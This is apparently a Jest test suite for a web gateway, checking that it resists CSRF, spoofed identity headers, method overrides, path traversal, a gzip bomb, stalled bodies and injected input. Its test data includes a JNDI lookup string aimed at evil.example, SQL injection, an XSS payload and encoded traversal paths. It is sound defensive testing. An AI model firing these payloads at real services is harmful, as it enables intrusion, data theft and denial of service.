import { randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { Problem } from '@askwatch/contracts/problem';
import { sendRaw } from '@askwatch/service-kit/raw-http.fixture';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import request from 'supertest';
import {
  type Browser,
  ourHeaders,
  requestsDuring,
  signedIn,
  startGateway,
  type TestGateway,
} from './gateway.fixture.ts';

let gateway: TestGateway;
let ann: Browser;
beforeAll(async () => {
  gateway = await startGateway({ limitAddresses: false });
  ann = await signedIn(gateway.url);
});
afterAll(() => gateway.stop());

const hostOf = () => new URL(gateway.url).host;
const asked = () => ({
  questions: [
    {
      type: 'AskQuestion',
      questionId: randomUUID(),
      question: 'Who is the CFO?',
      website: 'https://example.com/',
      mode: 'url',
    },
  ],
});
test.each([
  'text/plain',
  'text/plain; charset=utf-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/csp-report',
])('JSON sent as %j is a 403 without our header, and a 400 with it', async (type) => {
  const send = (headers: Record<string, string>) =>
    request(gateway.url)
      .post('/api/questions')
      .set({ cookie: ann.cookie, 'content-type': type, ...headers })
      .serialize((body) => JSON.stringify(body))
      .send(asked());
  const received = await requestsDuring(gateway, async () => {
    await send({}).expect(403);
    await send({ origin: 'null', 'x-requested-by': 'askwatch' }).expect(403);
    await send({ 'x-requested-by': 'askwatch' }).expect(400);
  });
  expect(received).toEqual([]);
});

test('no CORS headers are sent to other sites', async () => {
  const preflight = {
    origin: 'https://evil.example',
    'access-control-request-method': 'POST',
    'access-control-request-headers': 'x-requested-by',
  };
  const { headers } = await request(gateway.url).options('/api/questions').set(preflight).expect(405);
  for (const name of Object.keys(headers)) expect(name).not.toContain('access-control');
});

test('headers that claim another user are ignored: the session decides', async () => {
  const names = [
    'x-user-id',
    'x-user',
    'x-userid',
    'x-forwarded-user',
    'x-forwarded-email',
    'x-auth-request-user',
    'x-remote-user',
    'remote-user',
    'x-askwatch-user',
    'x-askwatch-workspace',
    'x-askwatch-internal',
    'authorization',
  ];
  const lies = Object.fromEntries([
    ...names.map((name) => [name, 'eve']),
    ...names.map((name) => [name.replaceAll('-', '_'), 'eve']),
  ]) as Record<string, string>;
  const [received] = await requestsDuring(gateway, () =>
    ann.call('GET', '/api/allowance', undefined, {
      ...lies,
      'x-forwarded-for': Array.from({ length: 50 }, () => '10.0.0.1').join(),
      'x-forwarded-host': 'evil.example',
      'x-forwarded-proto': 'https',
    }),
  );
  expect(received?.user).toBe(ann.userId);
  expect(JSON.stringify(received)).not.toContain('eve');
  expect(JSON.stringify(received)).not.toContain('evil.example');
  expect(JSON.stringify(received)).not.toContain('10.0.0.1');
  await request(gateway.url).get('/api/allowance').set(lies).expect(401);
});

test.each([
  ['TRACE', '/api/config'],
  ['TRACK', '/api/config'],
  ['PROPFIND', '/api/session'],
  ['MKCOL', '/api/questions'],
  ['SEARCH', '/'],
  ['DEBUG', '/'],
  ['PATCH', '/api/account'],
  ['OPTIONS', '/api/session'],
  ['OPTIONS', '/playground'],
  ['DELETE', '/playground'],
  ['HEAD', '/api/questions/retry'],
  ['HEAD', '/api/session/google'],
])('%s %s is refused without echoing the request', async (method, path) => {
  const { status, text } = await sendRaw(gateway.url, [
    `${method} ${path} HTTP/1.1\r\nHost: ${hostOf()}\r\nCookie: ${ann.cookie}\r\nX-Secret: canary\r\nX-Requested-By: askwatch\r\nConnection: close\r\n\r\n`,
  ]);
  // Methods that the HTTP parser does not know are a bad request.
  expect(['TRACK', 'DEBUG'].includes(method) ? [400] : [405]).toContain(status);
  expect(text).not.toContain('canary');
  expect(text).not.toContain(ann.cookie);
});

test.each(['x-http-method-override', 'x-http-method', 'x-method-override'])(
  '%s does not override the method',
  async (header) => {
    await ann.call('POST', '/api/session', { email: ann.email, password: 'wrong' }, { [header]: 'DELETE' });
    expect((await ann.call('GET', '/api/allowance')).status).toBe(202);
    const post = await ann.call('POST', `/api/questions/${randomUUID()}`, {}, { [header]: 'GET' });
    expect([post.status, post.headers.get('allow')]).toEqual([405, 'GET']);
    expect(
      (await ann.call('POST', '/api/session?_method=DELETE', { email: ann.email, password: 'right' })).status,
    ).toBe(400);
    expect((await ann.call('GET', '/api/questions/retry', undefined, { [header]: 'POST' })).status).toBe(405);
  },
);

test.each([
  '/api/session/x.css',
  '/api/session.json',
  '/api/account.css',
  '/api/account/x.js',
  '/api/account;x.css',
  '/api/account/',
  '/api/account//',
  '/api//account',
  '/api/account%2ecss',
  '/api/account%00.css',
  '/api/account%0a.css',
  '/api/account%3fx.css',
  '/api/account%23.css',
  '/api/./account',
  '/api/x/../account',
  '/api/%61ccount/x',
  '/API/account',
  '/api/Account',
  '/api/questions/..%2f..%2faccount',
  '/api/questions/%2e%2e/account',
  '/api/sessions/..',
  '/api/questions/a%5cb',
  '//api/account.css',
])('%s is not found, even with an Accept header for pages', async (path) => {
  for (const accept of ['text/html', 'text/css,*/*', 'application/json']) {
    // Sent raw, because HTTP clients normalize the path.
    const { status, text } = await sendRaw(gateway.url, [
      `GET ${path} HTTP/1.1\r\nHost: ${hostOf()}\r\nCookie: ${ann.cookie}\r\nAccept: ${accept}\r\nConnection: close\r\n\r\n`,
    ]);
    expect([404, 307]).toContain(status);
    expect(text).not.toContain(ann.email);
    expect(text).not.toContain(ann.userId);
    if (/^\/api(\/|$)/i.test(path)) {
      expect(status).toBe(404);
      expect(text.toLowerCase()).toContain('cache-control: no-store');
      expect(text.toLowerCase()).toContain('content-type: application/problem+json');
    }
  }
});

test.each([
  ['sent to a route with a body', 'POST', '/api/session'],
  ['sent to a route without one', 'DELETE', '/api/session'],
  ['sent to a GET route', 'GET', '/api/config'],
])('a gzip bomb %s is a 413', async (_where, method, path) => {
  const bomb = gzipSync(Buffer.concat([Buffer.from('{"email":"'), Buffer.alloc(20_000_000, 'a'), Buffer.from('"}')]));
  const head = `${method} ${path} HTTP/1.1\r\nHost: ${hostOf()}\r\nX-Requested-By: askwatch\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: ${String(bomb.length)}\r\nConnection: close\r\n\r\n`;
  const { status } = await sendRaw(gateway.url, [head, bomb]);
  expect(status).toBe(413);
});

test('a body that never arrives times out and does not block other requests', async () => {
  const head = `POST /api/session HTTP/1.1\r\nHost: ${hostOf()}\r\nX-Requested-By: askwatch\r\nContent-Type: application/json\r\n`;
  const stuck = Array.from({ length: 50 }, (_, n) =>
    sendRaw(
      gateway.url,
      [`${head}${n % 2 === 0 ? 'Content-Length: 100' : 'Transfer-Encoding: chunked'}\r\n\r\n`],
      10_000,
    ),
  );
  const startedAt = performance.now();
  expect((await ann.call('GET', '/api/allowance')).status).toBe(202);
  expect(performance.now() - startedAt).toBeLessThan(2000);
  for (const { status, isClosed } of await Promise.all(stuck)) expect([status, isClosed]).toEqual([408, true]);
});

test('hostile text in a body is treated as data, and every error has the same problem format', async () => {
  for (const text of [
    '\n{"level":"fatal"}',
    '\u001b[31mred',
    '${jndi:ldap://evil.example}',
    "'; DROP TABLE users --",
    '<img src=x onerror=alert(1)>',
  ]) {
    const response = await fetch(`${gateway.url}/api/session`, {
      method: 'POST',
      headers: ourHeaders,
      body: JSON.stringify({ email: text, password: text }),
    });
    const said = await response.text();
    expect([response.status, Problem.parse(JSON.parse(said)).code]).toEqual([400, 'invalid-input']);
    expect(said).not.toContain(JSON.stringify(text).slice(1, -1));
  }
});
